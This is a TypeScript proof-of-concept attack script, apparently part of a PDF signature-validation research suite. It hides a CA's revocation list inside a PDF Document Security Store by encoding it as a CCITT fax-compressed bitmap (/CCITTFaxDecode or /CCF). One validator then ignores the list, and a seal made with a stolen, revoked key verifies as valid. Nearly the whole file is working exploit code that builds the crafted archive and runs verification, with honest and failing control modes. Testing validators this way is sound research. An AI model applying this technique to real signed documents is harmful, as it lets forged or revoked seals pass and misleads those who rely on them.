// a27 (b515ac0, target 2): b515ac0 leaves a DSS OCSP/CRL stream "junk" (ignored) only when its /Filter names a filter
// no reader decodes: an image filter or an unknown name. But PDFBox (EU DSS) decodes /CCITTFaxDecode itself (its
// CCITTFaxFilter, no plugin), losslessly: a CRL's DER as a 1-bit bitmap, Group 4 coded, is the CRL to PDFBox.
// attack-s6 G1's scenario (lib.revokedSealed: the seal key stolen, the CA revokes at 08:06, the thief seals at 08:36
// with the CA's "good" of 07:36 in the CMS; the archivist's DSS holds the CA's CRL listing the seal, under an archive
// timestamp): only how that CRL stream is stored changes. Needs netpbm (pamtotiff): apt-get install netpbm.
// modes:
//   honest        FlateDecode (control: TOTAL-FAILED / REVOKED)
//   g4-b1         /CCITTFaxDecode /DecodeParms << /K -1 /Columns 128 /Rows n /BlackIs1 true >>: the CRL's bytes, 16 a
//                 row (zero-padded), Group 4 coded (pamtotiff -g4); PDFBox decodes to the CRL (+ zero padding)
//   g4            the same with the bits inverted and /BlackIs1 false (the default)
//   g3            /K 0 (Modified Huffman, pamtotiff -g3), /BlackIs1 true
//   ccf           g4-b1 under the abbreviation /CCF
//   g4-wrong      control: the inverted bits with /BlackIs1 true (PDFBox decodes the CRL inverted: no CRL)
//   npx tsx scripts/attack-s22/dss-ccitt.ts <mode>      (DSS=1 adds EU DSS)
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { dss, save, show, verify, work } from "../attack36/lib.js";
import { archivedWith, revokedSealed, type Stream } from "../attack-s6/lib.js";

const MODES = ["honest", "g4-b1", "g4", "g3", "ccf", "g4-wrong"];
const mode = process.argv[2] ?? "g4-b1";
if (!MODES.includes(mode)) throw new Error(`mode: ${MODES.join("|")}`);
const latin = (b: Uint8Array) => Buffer.from(b).toString("latin1");
const { sealed, crl, compromise } = await revokedSealed();

const BYTES = 16;
/** The CCITT-coded strip of a PBM of `data` (BYTES a row), read out of pamtotiff's one-strip TIFF. */
function ccitt(data: Uint8Array, invert: boolean, g3: boolean): { coded: Uint8Array; rows: number } {
  const rows = Math.ceil(data.length / BYTES);
  const bits = new Uint8Array(rows * BYTES);
  bits.set(data);
  if (invert) for (let i = 0; i < bits.length; i++) bits[i] = ~bits[i]! & 0xff;
  const dir = mkdtempSync(join(tmpdir(), "a27-ccitt-"));
  writeFileSync(join(dir, "x.pbm"), Buffer.concat([Buffer.from(`P4\n${BYTES * 8} ${rows}\n`), Buffer.from(bits)]));
  const tiff = execFileSync("pamtotiff", [g3 ? "-g3" : "-g4", "-rowsperstrip", String(rows), join(dir, "x.pbm")]);
  // Little or big endian TIFF; tags 273 (StripOffsets) and 279 (StripByteCounts), one strip.
  const le = tiff[0] === 0x49;
  const u16 = (o: number) => (le ? tiff.readUInt16LE(o) : tiff.readUInt16BE(o));
  const u32 = (o: number) => (le ? tiff.readUInt32LE(o) : tiff.readUInt32BE(o));
  const ifd = u32(4);
  let off = -1;
  let len = -1;
  for (let i = 0; i < u16(ifd); i++) {
    const e = ifd + 2 + i * 12;
    const tag = u16(e);
    const type = u16(e + 2);
    const v = type === 3 ? u16(e + 8) : u32(e + 8);
    if (tag === 273) off = v;
    if (tag === 279) len = v;
    if (tag === 262 && v !== 0) throw new Error(`photometric ${v}`);
  }
  if (off < 0 || len < 0) throw new Error("no strip in pamtotiff's TIFF");
  return { coded: Uint8Array.from(tiff.subarray(off, off + len)), rows };
}
const stream = (name: string, k: number, invert: boolean, blackIs1: boolean): Stream => {
  const { coded, rows } = ccitt(crl, invert, k === 0);
  const parms = `/K ${k} /Columns ${BYTES * 8} /Rows ${rows}${blackIs1 ? " /BlackIs1 true" : ""}`;
  return { raw: `<< /Filter /${name} /DecodeParms << ${parms} >> /Length ${coded.length} >>\nstream\n${latin(coded)}\nendstream` };
};
const streams: Record<string, () => Stream> = {
  honest: () => ({ bytes: crl }),
  "g4-b1": () => stream("CCITTFaxDecode", -1, false, true),
  g4: () => stream("CCITTFaxDecode", -1, true, false),
  g3: () => stream("CCITTFaxDecode", 0, false, true),
  ccf: () => stream("CCF", -1, false, true),
  "g4-wrong": () => stream("CCITTFaxDecode", -1, true, true),
};
const file = save(work(`a27-ccitt-${mode}`), "archive.pdf", await archivedWith(sealed, streams[mode]!()));
console.log(`wrote ${file}: seal revoked ${compromise.toISOString()}; the CA's CRL listing it in a DSS (${mode}), under an archive timestamp`);
show(mode, verify(file));
dss(file);
void readFileSync;
